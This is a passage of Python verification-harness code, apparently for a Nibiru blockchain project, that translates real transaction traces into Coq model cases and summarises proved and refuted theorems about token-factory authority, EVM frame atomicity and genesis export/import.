            p = subprocess.run(["coqc", "-Q", coq, "Nib", path], cwd=wd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                               text=True, timeout=1200)
            m = re.search(r"L\s*=\s*\[(.*?)\]\s*:", p.stdout, re.S)
            if p.returncode == 0 and m:
                for x in re.split(r"[;\s]+", m.group(1)):
                    if x.strip():
                        ok.add(int(x))
        except Exception:
            pass
        for i, r in enumerate(sh):
            _SIG_CACHE[_key(r)] = i in ok
        ok = set()


def _prefetch():
    """First use in a run: evaluate every candidate record of this run's traces in one batch."""
    if _PREFETCHED[0]:
        return
    _PREFETCHED[0] = True
    _, wd = _env()
    recs, seen = [], set()
    try:
        names = sorted(fn for fn in os.listdir(wd) if fn.startswith("trace_") and fn.endswith(".jsonl"))
    except OSError:
        names = []
    for fn in names:
        for line in open(os.path.join(wd, fn)):
            try:
                r = json.loads(line)
            except Exception:
                continue
            if "input" in r and "obs" in r and _is_candidate(r):
                k = _key(r)
                if k not in seen:
                    seen.add(k)
                    recs.append(r)
    if recs:
        _eval_lenient(recs, "batch")


def _lenient_holds(rec):
    """Does the lenient checker (proved sound in Spec.v) hold on this record and does the model agree with it?
    Batched over the run's traces on first use; a record not seen there (shrinking, search) is evaluated alone."""
    k = _key(rec)
    if k not in _SIG_CACHE:
        _prefetch()
    if k not in _SIG_CACHE:
        _eval_lenient([rec], "single")
    return _SIG_CACHE.get(k, False)


def signature(rec):
    """The known finding is identified ONLY when the lenient property holds on the trace (and the model agrees with it),
    i.e. the sole reason the statement-to-the-letter fails is a MsgBurnNative by which the signer burnt exactly the
    stated amount of its own tf coins.  Anything else gets a different signature and is reported as a VIOLATION."""
    kinds = sorted({op["t"] for op in rec["input"]["ops"]} | {lf["t"] for op in rec["input"]["ops"] for lf, _, _ in leaves(op)})
    if _is_candidate(rec) and _lenient_holds(rec):
        return {"kind": "burnnative-moves-tf-supply"}
    return {"kind": "tokenfactory-authority", "ops": kinds}


def _size(op):
    return 10 + sum(_size(c) for c in (op.get("c") or []))


def input_size(inp):
    return sum(_size(o) for o in inp["ops"]) + 5 * len(inp.get("genesis") or [])


def shrink_candidates(inp):
    out = []
    ops = inp["ops"]
    for i in range(len(ops)):
        if len(ops) > 1:
            rest = [dict(o) for o in ops[:i] + ops[i + 1:]]
            if ops[i].get("join") is not True and i < len(rest) and rest[i].get("join"):
                rest[i]["join"] = False  # the head of a tx was dropped: its second message becomes the head
            out.append(dict(inp, ops=rest))
    gs = inp.get("genesis") or []
    for i in range(len(gs)):
        out.append(dict(inp, genesis=gs[:i] + gs[i + 1:]))
    # carriers: drop one carried message, or peel the outermost carrier off a single carried message
    for i, o in enumerate(ops):
        kids = o.get("c") or []
        if o["t"] in ("exec", "wasm"):
            if len(kids) > 1:
                for k in range(len(kids)):
                    out.append(dict(inp, ops=ops[:i] + [dict(o, c=kids[:k] + kids[k + 1:])] + ops[i + 1:]))
            if len(kids) == 1:
                out.append(dict(inp, ops=ops[:i] + [dict(kids[0], join=o.get("join", False))] + ops[i + 1:]))
                if kids[0]["t"] in ("exec", "wasm") and len(kids[0].get("c") or []) == 1:
                    out.append(dict(inp, ops=ops[:i] + [dict(o, c=kids[0]["c"])] + ops[i + 1:]))
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over a string-level model of the token-factory message server on a bank ledger (denom parsing as the "
                 "strings.Split it is, admin checks as string equalities, blocked accounts, tx rollback), for EVERY state, message and "
                 "history. The statement to the letter is REFUTED (C15_supply_changes_only_by_admin_mint_burn_refuted: MsgBurnNative takes "
                 "any denom, a non-admin holder lowers a tf supply; replayed on the implementation, open known finding). Proved instead: "
                 "C15_supply_changes_only_by_admin_mint_burn_partial (supply moves only by an admin-signed Mint/Burn of exactly the amount, "
                 "or by a native burn of exactly that amount of the signer's OWN coins) and ..._except_native (to the letter for every other "
                 "message); C15_admin_handover_only_by_admin; C15_create_by_embedded_creator / C15_create_once_by_embedded_creator (over any "
                 "later history); C15_non_tf_denoms_untouched (+ over histories); C15_balance_moves_only_as_target; C15_conservation; "
                 "C15_former_admin_rejected / C15_not_admin_rejected. The model is run against real DeliverTx traces (snapshots of supply, "
                 "balances, admins after every message) and the proved-sound checker Pb (C15_checker_sound) is evaluated on those traces in "
                 "its strict form. MESSAGE CARRIERS (authz MsgExec to any depth with / without grants, contract dispatch, combinations; trees of "
                 "Nib.C17.MsgTree): 'signed by the current admin' is the authorisation relation `reaches` (every delegation edge vouched: below MsgExec the "
                 "grantee's own message or a grant on record, below a contract dispatch the contract's own message). Proved for EVERY tree, state and world, "
                 "given the generated-fact obligation C15_wasm_handler_checks_signers_of_every_dispatched_message: "
                 "C15_carriers_supply_moves_only_by_reached_admin_message_partial, C15_carriers_admin_moves_only_by_reached_admin_message, "
                 "C15_carriers_balance_moves_only_by_reached_message (+ tx forms), C15_contract_dispatches_only_its_own_messages, "
                 "C15_contract_cannot_exec_for_others, C15_exec_child_is_grantees_or_granted, C15_accepted_tx_passes_authority_walk; REFUTED for a handler "
                 "that does not check (C15_carriers_unchecked_handler_refuted: the contract dispatches MsgExec{grantee: admin}[MsgMint{sender: admin}]). The "
                 "trace checker Pbt (C15_tree_checker_sound) adds the authority clause: an accepted tx passes the authority walk from the grants on record."),
        "design_ref": "DESIGN.md §5 C15",
    },
    "level_note": ("PARTIAL w.r.t. the statement: the first clause holds only with the extra MsgBurnNative disjunct (theorem ..._partial); the "
                   "strict form is kept, proved refuted, and evaluated on traces by default -> KNOWN-FINDING {kind: burnnative-moves-tf-supply} on "
                   "every run (C15_LENIENT=1 evaluates the realised form). signature() identifies the known finding only when the lenient "
                   "checker holds on the record and model = implementation (decided by coqc on that record). Flags taken from the "
                   "implementation: sdk.ValidateDenom, bech32 parsing of mint_to/burn_from/new_admin, bank Metadata.Validate, BlockedAddr. "
                   "Txs of 1-4 messages, fee 0, correctly signed by all senders; the multi-message clause of the trace property (supply / admin move only if the tx carries such a message, first authority-needing message per denom signed by the admin on record) is evaluated on traces but proved for the model only message-wise (C15_accepted_tx_each_message). Generated facts (Gen/C15Facts.v, obligation C15_current_handlers_match_model): per handler the ordered guards / gates / writes with locals inlined and same-package helpers followed, admin-lookup store keys, DenomStr.ToStruct reject conditions, denom format. "
                   "Carriers: the model's admission test at a contract dispatch comes from the generated fact wasm_dispatch_events (signers-are-contract before routing, only refusing steps in front); authz's DispatchActions rule is modelled by hand (SDK code, not regenerated). "
                   "Trusted: Coq kernel + vm_compute, the driver's address renaming (@i / @Ui, injective) and snapshot reads."),
    "technique": "Coq proof (per-message case analysis, invariants and induction over histories and over message trees; refutation by vm_compute witness) + generated handler-event facts + differential correspondence on DeliverTx traces",
}
