"""C04 — call-frame atomicity across EVM state and precompile side effects."""
import json, os, re

ID = "C04"
GEN = "c04"
HARNESS_TEST = "TestC04.*"   # TestC04, TestC04ViaOnRunStart (StateDB API), TestC04Tx (real transactions)
COQ_MODEL = ["C04/Check.v", "Gen/C04Facts.v"]
COQ_PROOF_DEPS = ["C04/Proofs.v"]  # pulls ProofsBase/Undo/Ops/Inv/Sim/Run
COQ_OBLIG = ["C04/Property.v", "Gen/C04Oblig.v"]
CASES_HEADER = "Require Import Nib.C04.Model Nib.C04.Spec Nib.C04.Check Nib.Gen.C04Facts."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch max_multistore_cache_count"
VIOLATES_FN = "violates max_multistore_cache_count"
RULE = ("case = initial account/slot table + script tree (depth <= 6, <= 60 ops, <= 12 precompile calls) of EVM writes "
        "(Add/SubBalance incl. sub-unibi dust, SetNonce, SetCode, SetState, selfdestruct, create, AddLog, refund, access list), "
        "reads (GetBalance, GetState), Snapshot/RevertToSnapshot frames and precompile invocations (CacheCtxForPrecompile, "
        "SavePrecompileCalledJournalChange, CommitCacheCtx; body on the cache ctx VALUE obtained there: bank SendCoins of unibi, "
        "EVM writes (ERC20-style slot updates, logs, nonces), nested frames and NESTED precompile calls, failing or not) executed "
        "on the real statedb.StateDB + bank keeper; blocked module accounts (distribution, fee collector) as credit targets so that the flush before a precompile call fails half-way; write-backs of tx-start values after later calls; evm.create on funded objects; first the historic failure shapes F2/F2b/F2c/F2d, probe16 and a 12-call "
        "script; THIRD DRIVER TestC04Tx: one real signed MsgEthereumTx per case through EvmKeeper.EthereumTx to a hand-assembled script contract that does SSTOREs, value transfers, "
        "self-call frames (kept / REVERT) and REAL FunToken precompile calls (sendToEvm, sendToBank, bankMsgSend, balance) for a unibi mapping, a tokenfactory-denom mapping and an "
        "ERC20-born mapping whose token makes a nested failing oracle-precompile call, and REAL Wasm precompile calls (execute / executeMulti on a reflect.wasm instance owned by the "
        "script contract, funds attached, re-dispatching bank sends of unibi / the tf denom and the EVM-module messages MsgConvertCoinToEvm / MsgCreateFunToken, direct and inside authz "
        "MsgExec, which must be refused inside a running EVM tx); each call is translated into the model's script ops (non-unibi balances = pseudo accounts, "
        "ERC20 ledgers = storage) and the same model / Pb are evaluated; non-trivial = a frame (or failing call) that contains a precompile call is reverted while an EVM write or "
        "bank move made before/inside/after it has to be kept or dropped; distinct = distinct input")
ASSUMPTIONS = [
    "observations: OTouch = (GetBalance wei, bank unibi on the current ctx); OReadState = (GetState, GetCommittedState); the model emits the same list and the reference dictates what the flagged ones must show",
    "bank SendCoins of unibi between plain accounts = balance move or no write at all (insufficient funds); other bank/wasm effects of precompile bodies live in the same cache multistore and are reverted by the same snapshot",
    "contract code is content-addressed: the code table is not modelled, an account's code id stands for hash+bytes (DirtyCode flag not modelled)",
    "scripts outside `wf` (bank send from/to an account that self-destructed earlier in the tx; create on an address with storage written in the tx) are compared with the model of the code only, not with the reference",
]
TRUSTED = [
    "hand-written Gallina model coq/C04/Model.v of x/evm/statedb (tied to the code by the correspondence run on every check)",
    "translation of real FunToken calls into script ops (_tx_script in tools/props/c04.py): a wrong translation shows as a mismatch on the unchanged tree",
]
HARNESS_TIMEOUT = {"quick": 300, "thorough": 3600}


def _z(n):
    return "(%d)%%Z" % int(n)


def _prog(o):
    k = o[0]
    if k == "ab":
        return "OAddBalance %s %s" % (_z(o[1]), _z(o[2]))
    if k == "sb":
        return "OSubBalance %s %s" % (_z(o[1]), _z(o[2]))
    if k == "sn":
        return "OSetNonce %s %s" % (_z(o[1]), _z(o[2]))
    if k == "sc":
        return "OSetCode %s %s" % (_z(o[1]), _z(o[2]))
    if k == "ss":
        return "OSetState %s %s %s" % (_z(o[1]), _z(o[2]), _z(o[3]))
    if k == "sd":
        return "OSuicide %s %s" % (_z(o[1]), _z(o[2]))
    if k == "cr":
        return "OCreate %s" % _z(o[1])
    if k == "lg":
        return "OAddLog"
    if k == "ar":
        return "OAddRefund %s" % _z(o[1])
    if k == "sr":
        return "OSubRefund %s" % _z(o[1])
    if k == "aa":
        return "OAccessAddr %s" % _z(o[1])
    if k == "as":
        return "OAccessSlot %s %s" % (_z(o[1]), _z(o[2]))
    if k == "to":
        return "OTouch %s" % _z(o[1])
    if k == "rs":
        return "OReadState %s %s" % (_z(o[1]), _z(o[2]))
    if k == "fr":
        return "PFrame %s %s" % (_body(o[1]), "true" if o[2] else "false")
    if k == "bs":
        return "OBankSend %s %s %s" % (_z(o[1]), _z(o[2]), _z(o[3]))
    if k == "is":
        return "OIncState %s %s %s" % (_z(o[1]), _z(o[2]), _z(o[3]))
    if k == "pc":
        return "PPrecompile %s %s" % (_body(_pcbody(o[1])), "true" if o[2] else "false")
    raise ValueError("unknown op %r" % (o,))


def _pcbody(items):
    """body of a precompile call: ops; a bare [f, t, amt] triple (older corpus entries) is a bank send"""
    return [x if (x and isinstance(x[0], str)) else ["bs", x[0], x[1], x[2]] for x in items]


def _body(ops):
    return "[" + "; ".join(_prog(o) for o in ops) + "]"


# ---- the transaction driver (harness/c04/c04tx_test.go): real calls -> script ops of the model ----
# model addresses: 1 = script contract C (the caller), 2 / 3 = recipients, 5 = EVM module account;
# ERC20 ledgers = storage of 4 (unibi token), 8 (tf-denom token), 14 (ORC) with keys 1,2,3,5 = balanceOf(holder), 9 = totalSupply;
# non-unibi bank balances = balances of pseudo accounts 20+id (tf denom), 30+id (erc20/ORC), 29 / 39 = 10^6 - bank supply.
_TOK = {"u": 4, "d": 8, "e": 14}
_BASE = {"u": 0, "d": 20, "e": 30}
_FAIL_AMT = 1000000                 # no holder but W owns that much of anything
_FAIL_AMT_W_UNIBI = 100000000000    # 10^11 > W's 2*10^10 unibi; the generator's failing amount is 10^12


def _wasm_exec(msgs, funds):
    """body ops of one Wasm.execute(W, reflect_msg{msgs}, funds), or None when it fails (W = holder 6)"""
    body = []
    for tok, amt in funds:                                  # coins sent C -> W with the call
        if amt <= 0 or amt >= _FAIL_AMT:
            return None
        body.append(["bs", _BASE[tok] + 1, _BASE[tok] + 6, amt])
    for m in msgs:
        while m[0] == "exec":                               # authz MsgExec{grantee W, [m]}: as m
            m = m[1]
        if m[0] != "send":
            return None                                     # MsgConvertCoinToEvm / MsgCreateFunToken: refused inside an EVM tx
        tok, amt, to = m[1], m[2], m[3]
        # the bank refuses iff the sender's balance is smaller: W is funded with 2*10^10 unibi (CreateFunToken fee), < 10^6 of the rest
        if amt <= 0 or amt >= (_FAIL_AMT_W_UNIBI if tok == "u" else _FAIL_AMT):
            return None
        body.append(["bs", _BASE[tok] + 6, _BASE[tok] + to, amt])
        if tok != "u":
            body.append(["ab", to, 0])                      # the bank creates the recipient's auth account
    return body


def _tx_wasm(o):
    execs = [[o[1], o[2]]] if o[0] == "wx" else o[1]
    body = []
    for msgs, funds in execs:
        b = _wasm_exec(msgs, funds)
        if b is None:
            return ["pc", [], True]                         # the whole precompile call fails and is reverted
        body += b
    return ["pc", body, False]


def _tx_call(o):
    if o[0] in ("wx", "wxm"):
        return _tx_wasm(o)
    k, tok = o[0], o[1]
    if k == "qb":
        return ["pc", [], False]
    x, to = o[2], o[3]
    if x <= 0 or x >= _FAIL_AMT:
        return ["pc", [], True]                      # fails before any nested precompile call is made
    t, b = _TOK[tok], _BASE[tok]
    oracle = ["pc", [], True]                        # ORC.transfer(): nested oracle call, no price -> fails, ignored
    # the bank creates the auth account of a recipient of coins (a unibi send does so in the model already)
    mk = [["ab", to, 0]] if tok != "u" else []
    if k == "bms":                                   # bank MsgSend caller -> to
        return ["pc", [["bs", b + 1, b + to, x]] + mk, False]
    if k == "ste":                                   # escrow / burn the coins, mint / release the ERC20
        if tok == "e":
            return ["pc", [["bs", b + 1, b + 5, x], ["is", t, 5, -x], ["is", t, to, x], oracle, ["bs", b + 5, b + 9, x]], False]
        return ["pc", [["bs", b + 1, b + 5, x], ["is", t, 9, x], ["is", t, to, x]], False]
    if k == "stb":                                   # ERC20 to the module (then burnt), coins released / minted
        if tok == "e":
            return ["pc", [["is", t, 1, -x], ["is", t, 5, x], oracle, ["bs", b + 9, b + 5, x], ["bs", b + 5, b + to, x]] + mk, False]
        return ["pc", [["is", t, 1, -x], ["is", t, 5, x], ["is", t, 5, -x], ["is", t, 9, -x], ["bs", b + 5, b + to, x]] + mk, False]
    raise ValueError("unknown tx op %r" % (o,))


def _wasm_tag(o):
    """kinds of messages a wasm call re-dispatches (for histograms / signatures)"""
    if o[0] not in ("wx", "wxm"):
        return ""
    execs = [[o[1], o[2]]] if o[0] == "wx" else o[1]
    kinds = set()
    for msgs, funds in execs:
        if funds:
            kinds.add("funds")
        for m in msgs:
            pre = ""
            while m[0] == "exec":
                pre, m = "authz-", m[1]
            kinds.add(pre + m[0])
    return "[" + ",".join(sorted(kinds)) + "]"


def _tx_script(ops):
    out = []
    for o in ops:
        k = o[0]
        if k == "ss":
            out.append(["ss", 1, o[1], o[2]])
        elif k == "xf":
            out += [["sb", 1, o[2]], ["ab", o[1], o[2]]]
        elif k == "fr":
            out.append(["fr", _tx_script(o[1]), o[2]])
        else:
            out.append(_tx_call(o))
    return out


def _script(inp):
    """the script in model ops: given, or translated from a transaction of the tx driver"""
    if "tx" in inp:
        return _tx_script(inp["tx"])
    return inp["script"]


def to_coq_case(rec):
    i, ob = rec["input"], rec["obs"]
    accs = "; ".join("(%s, (%s, %s, %s))" % (_z(a[0]), _z(a[1]), _z(a[2]), _z(a[3])) for a in i["accs"])
    stor = "; ".join("(%s, %s, %s)" % (_z(s[0]), _z(s[1]), _z(s[2])) for s in i["stor"])
    oaccs = []
    for a in ob["accs"]:
        if a[1] == 0 and a[2] == 0:
            oaccs.append("(%s, None)" % _z(a[0]))
        elif a[1] == 0:
            # bank balance without an auth account: not a state of the model; shown as an impossible account
            oaccs.append("(%s, Some (%s, (-1)%%Z, (-1)%%Z))" % (_z(a[0]), _z(a[2])))
        else:
            oaccs.append("(%s, Some (%s, %s, %s))" % (_z(a[0]), _z(a[2]), _z(a[3]), _z(a[4])))
    bad = bool(ob.get("panic") or ob.get("commit_err"))
    # supply change not explained by the observed accounts (e.g. coins minted into the evm module account)
    init_bal = {a[0]: a[1] for a in i["accs"]}
    leak = int(ob.get("supply_delta", "0")) - sum(a[2] - init_bal.get(a[0], 0) for a in ob["accs"]) + sum(init_bal.values()) - sum(init_bal.get(a[0], 0) for a in ob["accs"])
    o = ("{| o_accs := [%s]; o_stor := [%s]; o_logs := %s; o_refund := %s; o_leak := %s; o_al := [%s]; o_als := [%s]; o_views := [%s] |}" % (
        "; ".join(oaccs),
        "; ".join("(%s, %s, %s)" % (_z(s[0]), _z(s[1]), _z(s[2])) for s in ob["stor"]),
        _z(ob["logs"]), _z(ob["refund"]), _z(leak),
        "; ".join("(%s, %s)" % (_z(a[0]), "true" if a[1] else "false") for a in ob["al"]),
        "; ".join("(%s, %s, %s)" % (_z(a[0]), _z(a[1]), "true" if a[2] else "false") for a in ob["als"]),
        "; ".join("(%s, %s, %s)" % (_z(v[0]), _z(v[1]), _z(v[2])) for v in ob["views"])))
    blocked = "; ".join(_z(b) for b in i.get("blocked", []))
    return "{| c_accs := [%s]; c_stor := [%s]; c_script := %s; c_blocked := [%s]; c_fail := %s; c_obs := %s |}" % (
        accs, stor, _body(_script(i)), blocked, "true" if bad else "false", o)


def _walk(ops, depth=0, in_rev=False):
    """yields (op, depth, inside a reverted frame)"""
    for o in ops:
        yield o, depth, in_rev
        if o[0] == "fr":
            yield from _walk(o[1], depth + 1, in_rev or o[2])
        if o[0] == "pc":
            yield from _walk([x for x in _pcbody(o[1]) if x[0] != "bs"], depth + 1, in_rev or o[2])


def _has_pc(ops):
    return any(o[0] == "pc" for o, _, _ in _walk(ops))


def _writes(ops):
    return any(o[0] in ("ab", "sb", "sn", "sc", "ss", "sd", "cr") for o, _, _ in _walk(ops))


def nontrivial(rec):
    """a reverted frame (or failing call) containing a precompile call, with EVM writes or bank moves around it"""
    ops = _script(rec["input"])

    def scan(body, outer_writes):
        seen_write = outer_writes
        for idx, o in enumerate(body):
            if o[0] == "pc" and o[2] and (seen_write or o[1]):
                return True
            if o[0] == "fr":
                if o[2] and _has_pc(o[1]) and (seen_write or _writes(o[1]) or _writes(body[idx + 1:])):
                    return True
                if scan(o[1], seen_write):
                    return True
            if o[0] in ("ab", "sb", "sn", "sc", "ss", "sd", "cr"):
                seen_write = True
            if o[0] == "pc" and o[1]:
                seen_write = True
                if scan([x for x in _pcbody(o[1]) if x[0] in ("fr", "pc")], True):
                    return True
        return False
    return scan(ops, False)


def classify(rec):
    ops = _script(rec["input"])
    ks = []
    n = 0
    maxd = 0
    pcs = 0
    for o, d, rev in _walk(ops):
        n += 1
        maxd = max(maxd, d)
        name = o[0]
        if name == "fr":
            name += "/reverted" if o[2] else "/kept"
        if name == "pc":
            pcs += 1
            b = _pcbody(o[1])
            name += ("/fails" if o[2] else "/ok") + ("/sends" if any(x[0] == "bs" for x in b) else "/nosend") + \
                    ("/evm-writes" if any(x[0] not in ("bs", "to") for x in b) else "")
        ks.append("op:" + name)
    ks.append("depth=%d" % maxd)
    ks.append("ops=%s" % ("1-5" if n <= 5 else "6-15" if n <= 15 else "16-30" if n <= 30 else "31+"))
    ks.append("precompile_calls=%s" % (str(pcs) if pcs <= 3 else "4-10" if pcs <= 10 else "11+"))
    ob = rec["obs"]
    if ob.get("limit_errs"):
        ks.append("call_refused")
    if ob.get("flush_errs"):
        ks.append("flush_failed")
    if ob.get("panic"):
        ks.append("panic")
    if ob.get("commit_err"):
        ks.append("commit_err")
    ks.append("views=%d" % min(len(ob["views"]), 10))
    if "tx" in rec["input"]:
        ks.append("driver=tx")

        def walk(ops, rev):
            for o in ops:
                if o[0] == "fr":
                    yield from walk(o[1], rev or o[2])
                else:
                    yield "tx:" + o[0] + ("/" + o[1] if o[0] in ("ste", "stb", "bms", "qb") else "") + _wasm_tag(o) + ("/in-reverted-frame" if rev else "")
        ks += sorted(set(walk(rec["input"]["tx"], False)))
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    if "tx" in rec["input"]:
        def walk(ops):
            for o in ops:
                if o[0] == "fr":
                    yield "fr/rev" if o[2] else "fr"
                    yield from walk(o[1])
                else:
                    yield o[0] + ("/" + o[1] if o[0] in ("ste", "stb", "bms", "qb") else "") + _wasm_tag(o)
        return {"kind": "frame-atomicity", "driver": "tx", "ops": sorted(set(walk(rec["input"]["tx"])))}
    kinds = sorted({o[0] + ("/rev" if o[0] in ("fr", "pc") and o[2] else "") for o, _, _ in _walk(_script(rec["input"]))})
    return {"kind": "frame-atomicity", "ops": kinds}


def input_size(inp):
    return sum(10 + len(o[1]) * 3 if o[0] == "pc" else 10 for o, _, _ in _walk(_script(inp) if ("tx" in inp or "script" in inp) else [])) + len(inp["accs"]) + len(inp["stor"])


def _tx_variants(body):
    res = []
    for i in range(len(body)):
        res.append(body[:i] + body[i + 1:])                          # drop an op
        o = body[i]
        if o[0] == "fr":
            if not o[2]:
                res.append(body[:i] + o[1] + body[i + 1:])            # inline a kept frame
            for sub in _tx_variants(o[1]):
                res.append(body[:i] + [["fr", sub, o[2]]] + body[i + 1:])
        if o[0] in ("wx", "wxm"):
            execs = [[o[1], o[2]]] if o[0] == "wx" else o[1]
            if len(execs) > 1:
                for j in range(len(execs)):                                    # a single execute of a multi call
                    res.append(body[:i] + [["wx", execs[j][0], execs[j][1]]] + body[i + 1:])
            else:
                msgs, funds = execs[0]
                if funds:
                    res.append(body[:i] + [["wx", msgs, []]] + body[i + 1:])
                for j in range(len(msgs)):
                    if len(msgs) > 1:
                        res.append(body[:i] + [["wx", msgs[:j] + msgs[j + 1:], funds]] + body[i + 1:])
                    if msgs[j][0] == "exec":                                    # unwrap authz
                        res.append(body[:i] + [["wx", msgs[:j] + [msgs[j][1]] + msgs[j + 1:], funds]] + body[i + 1:])
        if o[0] in ("ste", "stb", "bms") and 1 < o[2] < _FAIL_AMT:
            res.append(body[:i] + [[o[0], o[1], 1, o[3]]] + body[i + 1:])   # smallest amount
    return res


def shrink_candidates(inp):
    if "tx" in inp:
        return [{"accs": inp["accs"], "stor": inp["stor"], "tx": t, "blocked": inp.get("blocked", [])}
                for t in _tx_variants(inp["tx"]) if t]
    out = []

    def variants(body):
        res = []
        for i in range(len(body)):
            res.append(body[:i] + body[i + 1:])                      # drop an op
            o = body[i]
            if o[0] == "fr":
                if not o[2]:
                    res.append(body[:i] + o[1] + body[i + 1:])        # inline a kept frame
                for sub in variants(o[1]):
                    res.append(body[:i] + [["fr", sub, o[2]]] + body[i + 1:])
            if o[0] == "pc" and o[1]:
                for j in range(len(o[1])):
                    res.append(body[:i] + [["pc", o[1][:j] + o[1][j + 1:], o[2]]] + body[i + 1:])
                inner = _pcbody(o[1])
                if any(x[0] in ("fr", "pc") for x in inner):
                    for sub in variants(inner):
                        res.append(body[:i] + [["pc", sub, o[2]]] + body[i + 1:])
        return res
    for s in variants(inp["script"]):
        if s:
            out.append({"accs": inp["accs"], "stor": inp["stor"], "script": s})
    for o in out:
        o["blocked"] = inp.get("blocked", [])
    if inp["stor"]:
        out.append({"accs": inp["accs"], "stor": [], "script": inp["script"], "blocked": inp.get("blocked", [])})
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Unbounded Coq theorem C04_frame_atomicity: for EVERY per-tx call limit, initial store and well-formed script "
                 "(any length and nesting of EVM writes incl. dust, nonce, code, storage, logs, refund, access list, create, "
                 "selfdestruct; reads; Snapshot/Revert frames; precompile calls succeeding / failing after OnRunStart / refused "
                 "by the limit, whose bodies move unibi by bank sends mirrored into the StateDB, write EVM state, open frames and make "
                 "nested precompile calls - the FunToken.sendToBank/sendToEvm -> ERC20 -> precompile pattern) the state written by "
                 "StateDB.Commit in the two-layer model of x/evm/statedb (journal + dirty counts + object cache over tx store "
                 "and cache store, as repaired by 72672e0) equals the final state of a copy-on-frame reference, i.e. a reverted "
                 "frame undoes exactly its own EVM and bank effects. Companion theorems: reverted frames are invisible up to "
                 "caching (P1), balance views agree inside every precompile body, reads see the reference, calls beyond "
                 "maxMultistoreCacheCount - or whose pre-run flush fails half-way because a blocked module account would have to be "
                 "credited - are refused without effect (the written prefix is undone), and vm_compute witnesses refute the property for the "
                 "pre-fix behaviour (F2, F2b, F2c, F2d) and for a precompile body that keeps the multistore object it was started with "
                 "after a nested precompile call is reverted (C04_nested_stale_ctx_refuted; run_h with live:=false, proved equal to the "
                 "main model for live:=true). The design's proof plan P1-P5 was completed; the bounded fallback "
                 "was not needed. The model is run on every check against the real code on the same generated scripts (three drivers: the "
                 "StateDB API calls one by one, through precompile.OnRunStart, and REAL TRANSACTIONS - signed MsgEthereumTx to a script "
                 "contract calling the real FunToken precompile for unibi, a tokenfactory denom and an ERC20-born mapping, and the real Wasm "
                 "precompile on reflect.wasm (bank sends, funds, contract-dispatched EVM-module messages that must be refused), in kept and "
                 "reverted frames, observing bank balances and supplies of all three denoms, the ERC20 ledgers and contract storage) and the "
                 "proved-sound checker Pb (reference vs observed) is evaluated on those traces; the call limit, the shape "
                 "of its check, the OnRunStart call order and the set of precompile entry points are re-extracted from /repo."),
        "design_ref": "DESIGN.md §5 C04",
    },
    "level_note": ("Proved about the hand-written model at the vm.StateDB interface (interpreter usage protocol), not about "
                   "Go: the tie is the correspondence run (0 mismatches required) + generated facts. Precompile bodies are scripts "
                   "of unibi bank sends, StateDB writes, frames and nested precompile calls (what an EVM call made from inside a "
                   "body amounts to at the vm.StateDB interface); non-unibi coins are carried by the same bank ledger as balances of pseudo accounts (transaction driver); "
                   "wasm CONTRACT state (same cache multistore, same snapshot) is not observed - the bank writes of wasm-dispatched messages are -, code table, gas and events "
                   "are not modelled; the transaction driver does not observe nonces, code, logs, refund or access lists (the API drivers do). Domain `wf` excludes bank sends "
                   "from/to an account that self-destructed earlier in the tx (there the bank sees 0 while the StateDB shows "
                   "later credits - documented boundary) and evm.create on an address with storage written in the tx. "
                   "Trusted: Coq kernel + vm_compute, the go/ast extractor, driver canonicalisation, check.py."),
    "technique": ("Coq: refinement of a journaled two-layer state machine to a stack-of-copies reference via (1) a caching "
                  "preorder under which undo/unwind are monotone and every operation incl. a whole precompile call is "
                  "'unwind gives back a refinement', (2) a per-address simulation relation (visible state + commit readiness) "
                  "monotone under that preorder and preserved by every forward step, (3) commit = flush of the visible state; "
                  "differential correspondence of the executable model with the implementation; generated facts."),
}
