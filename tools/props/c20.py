"""C20 — exported state re-imports to the same state for every Nibiru module."""
import json

ID = "C20"
GEN = "c20"
HARNESS_TEST = "TestC20"
COQ_MODEL = ["C20/Check.v", "Gen/C20Facts.v"]
COQ_PROOF_DEPS = ["C20/Proofs.v", "C20/ProofsDg.v", "C20/ProofsGen.v"]
COQ_OBLIG = ["C20/Property.v", "Gen/C20Oblig.v"]
CASES_HEADER = ("Require Import Nib.C20.SMapDef Nib.C20.Model Nib.C20.Spec Nib.C20.Check Nib.Gen.C20Facts.\n"
                "Open Scope nat_scope.")
CASE_TYPE = "case"
MISMATCH_FN = "mismatch current_cfg"
VIOLATES_FN = "violates"
RULE = ("case = a generated state-building history (3-9 segments of related ops + single ops, ~5-30 ops) on a real app (EVM contracts with constructor storage, "
        "SSTOREs incl. clearing, self-destructs, code-less contracts, ERC20 + FunToken both ways, conversions, "
        "token-factory denoms/admin hand-over/custom metadata/mints, sudoers edits and root change, inflation toggles and "
        "param edits, day-long blocks (epochs tick, inflation hook), x/devgas registry HISTORIES on real wasm contracts "
        "(reflect.wasm instantiated with no admin / creator / other user / gov module / another contract as admin; "
        "MsgRegisterFeeShare, MsgUpdateFeeShare away from and BACK to the deployer, to the contract, to the stored value, "
        "MsgCancelFeeShare + re-registration, MsgUpdateParams valid / invalid / disabled, admin changes; senders authorised / "
        "strangers; strings canonical / upper-case / empty / malformed; delivered as signed txs or through the message "
        "router; ~60 % of the cases, the handler model must predict every success/failure and the dumped registry), "
        "oracle feeder delegations, prevotes, "
        "votes, tallies (rates, miss counters), reward allocations) -> ExportAppStateAndValidators -> fresh app InitChain "
        "-> second export, ITERATED for 1-3 generations (export -> import -> 0-5 blocks, optionally a 31-min / day-long one -> export -> import ...; "
        "each import with no initial height / 1 (InitChain context height 0), the exported height or a later one; the chain's own "
        "genesis may define a NOT-YET-STARTED epoch scheduled 1 h / 3 d / 30 d / 400 d ahead, and import times are placed one second "
        "BEFORE, exactly AT or AFTER the scheduled start while it has not started (as well as at random offsets); one full "
        "round-trip observation per generation, so every section is compared after every generation and a section silently "
        "dropped by a swallowed InitGenesis error is a violation); values are drawn with a per-case hub so that many-to-one relations occur in every collection whose "
        "values can coincide (several validators -> one feeder, denoms -> one admin/creator, contracts -> one deployer/"
        "withdrawer/bytecode, equal rates / storage words / rewards); an import that panics or is rejected by genesis validation "
        "is a violation with the history as replay; 15 fixed openers first; non-trivial = the exported state populates at least 3 of the feature "
        "groups {contract storage, funtokens, tf denoms, oracle pending votes/prevotes/rewards, oracle rates/miss, "
